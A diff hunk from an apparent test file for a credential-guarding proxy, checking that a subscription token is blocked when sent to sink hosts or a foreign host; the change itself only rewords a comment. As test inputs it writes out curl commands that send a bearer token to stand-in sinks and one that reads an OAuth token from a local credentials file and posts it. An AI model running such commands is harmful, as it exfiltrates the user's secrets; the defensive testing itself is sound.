@@ -694,7 +694,7 @@ def test_a_subscription_token_in_the_cage_goes_only_to_its_host(cage: CredCage) 
     for target in (f"https://{SINK}/oauth/{mark}", f"https://{REPORT_SINK}/oauth/{mark}"):
         status, _, block = _curl(cage, f"{bearer} {target}")
         assert (status, block) == ("403", "secret-detected"), target
-    # On a host bound to another credential it is refused before the scan: not that host's credential.
+    # On a host bound to another credential it is refused whatever the scan says: not that host's credential.
     status, _, block = _curl(cage, f"{bearer} https://api.github.com/user")
     assert (status, block) == ("403", "credential-foreign")
     status, _, block = _curl(cage, '-d "t=$(jq -r .claudeAiOauth.accessToken ~/.claude/.credentials.json)" https://api.anthropic.com/v1/x')
